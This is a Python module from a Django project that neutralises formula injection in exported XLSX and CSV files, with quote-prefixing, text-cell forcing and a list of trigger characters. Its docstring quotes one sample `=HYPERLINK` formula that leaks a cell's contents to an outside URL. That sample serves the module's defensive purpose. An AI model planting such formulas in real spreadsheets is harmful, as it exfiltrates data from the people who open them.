"""Cells of the spreadsheets people download (XLSX, CSV) carry data, never formulas.

A fund note, a name or a reference typed as `=HYPERLINK("http://…?leak="&A1,"…")` would run
as a formula in whoever opens the export (CSV/formula injection). As OWASP recommends, every
text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is neutralised:

- XLSX (openpyxl): written as a text cell (never a formula) with Excel's quote prefix, so it
  shows as typed and stays text when edited or saved as CSV;
- CSV: prefixed with a single quote `'`.

Only strings are touched: a negative amount written as a number stays a number.
Every XLSX and CSV writer of the project appends its rows through `xlsx_append` / `SafeCsvWriter`.
"""

from __future__ import annotations

import csv

from django.utils.functional import Promise

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _text(value):
    return str(value) if isinstance(value, Promise) else value


def is_formula_like(value) -> bool:
    value = _text(value)
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_value(value):
    value = _text(value)
    return "'" + value if is_formula_like(value) else value


def xlsx_cell(sheet, value):
    """`value` as it should be appended to `sheet`: risky text as a quote-prefixed text cell."""
    value = _text(value)
    if not is_formula_like(value):
        return value
    from openpyxl.cell.cell import Cell

    cell = Cell(sheet, value=value)
    cell.data_type = "s"  # openpyxl would make a formula of a string starting with "="
    cell.quotePrefix = True
    return cell


def xlsx_append(sheet, values) -> None:
    """`sheet.append(values)`, with every formula-like text neutralised."""
    sheet.append([xlsx_cell(sheet, value) for value in values])


class SafeCsvWriter:
    """csv.writer whose rows are neutralised cell by cell."""

    def __init__(self, handle, *args, **kwargs):
        self._writer = csv.writer(handle, *args, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([csv_value(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)
